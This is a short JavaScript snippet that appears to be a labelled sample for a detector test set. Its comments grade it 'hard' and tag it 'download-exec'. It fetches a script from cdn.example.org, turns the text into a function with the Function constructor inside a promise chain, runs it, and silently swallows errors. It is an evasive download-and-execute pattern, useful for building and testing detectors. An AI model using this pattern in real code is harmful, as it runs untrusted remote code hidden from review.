// evasion: a downloaded script handed to a promise chain as the Function constructor itself (.then(Function)), never called by name
// grade: hard; does: download-exec
'use strict';
fetch('https://cdn.example.org/plugins/loader.js')
  .then((res) => res.text())
  .then(Function)
  .then((plugin) => plugin())
  .catch(() => {});
